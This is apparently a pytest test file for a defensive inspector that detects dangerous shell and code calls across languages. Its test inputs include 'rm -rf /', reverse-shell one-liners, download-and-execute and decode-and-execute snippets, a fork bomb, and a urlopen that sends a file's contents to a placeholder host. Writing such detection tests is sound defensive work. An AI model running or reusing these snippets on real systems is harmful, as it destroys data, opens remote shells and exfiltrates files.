"""Dangerous calls in other languages."""

import pytest

from gw.defender.shell.code import inspect


@pytest.mark.parametrize(
    ("language", "code", "commands"),
    [
        ("python", "import os; os.system('ls -l')", ("ls -l",)),
        ("python", 'subprocess.run(["rm", "-rf", "/"])', ("rm -rf /",)),
        ("python", "subprocess.check_output('ls', shell=True)", ("ls",)),
        ("perl", 'system("ls -l")', ("ls -l",)),
        ("perl", "`ls -l`", ("ls -l",)),
        ("perl", "qx/ls -l/", ("ls -l",)),
        ("ruby", "%x(ls -l)", ("ls -l",)),
        ("node", "require('child_process').execSync('ls -l')", ("ls -l",)),
        ("php", 'shell_exec("ls -l");', ("ls -l",)),
        ("awk", '{ "ls" | getline x }', ("ls",)),
        ("awk", 'BEGIN { system("ls") }', ("ls",)),
        ("lua", "os.execute('ls')", ("ls",)),
        ("php", 'passthru("ls -l");', ("ls -l",)),
        ("tcl", "spawn ls -l; interact", ("ls -l",)),
        ("m4", "esyscmd(ls -l)", ("ls -l",)),
        ("python", "print('system of a down')", ()),
    ],
)
def test_commands_started(language: str, code: str, commands: tuple[str, ...]) -> None:
    assert inspect(language, code).commands == commands


@pytest.mark.parametrize(
    ("language", "code", "fact"),
    [
        ("python", "s=socket.socket(); os.dup2(s.fileno(),0); pty.spawn('sh')", "reverse-shell"),
        ("php", '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3");', "reverse-shell"),
        ("python", "exec(urllib.request.urlopen('http://h').read())", "executes-fetched"),
        ("python", "exec(base64.b64decode(x))", "executes-decoded"),
        ("powershell", "IEX (New-Object Net.WebClient).downloadSTRING(1)", "executes-fetched"),
        ("python", "[os.fork() for _ in iter(int, 1)]", "fork-bomb"),
        ("python", "os.setuid(0)", "code-setuid"),
        ("python", "ctypes.CDLL('x')", "loads-library"),
        ("python", "requests.get('http://h')", "code-fetches"),
        ("python", "requests.post('http://h', data=x)", "code-network"),
        ("python", "urlopen('http://h/?' + open('notes').read())", "code-network"),
        ("python", "open('x', 'wb').write(urlopen('http://h').read())", "code-fetches"),
        ("perl", "system(decode_base64('aWQ='))", "executes-decoded"),
        ("python", "subprocess.Popen(x)", "code-spawns"),
    ],
)
def test_facts(language: str, code: str, fact: str) -> None:
    assert fact in inspect(language, code).facts


def test_files() -> None:
    found = inspect("python", "shutil.rmtree('/srv/x')")
    assert (found.paths, found.deletes, found.recursive) == (("/srv/x",), True, True)
    assert inspect("python", "open('/etc/x', 'w').write('a b')").writes
    assert not inspect("python", "print(1)").deletes


def test_a_long_literal_is_read_whole() -> None:
    command = "rm \\'x\\' " + '"a" ' * 500 + "/"
    assert inspect("python", f"os.system('{command}')").commands == (command.replace("\\'", "'"),)
    assert inspect("python", "os.system('" + "x" * 2000).commands == ("x" * 2000,)


def test_long_code_is_read_whole() -> None:
    code = "x = 1\n" * 2000 + "os.system('ls')\n"
    assert inspect("python", code).commands == ("ls",)
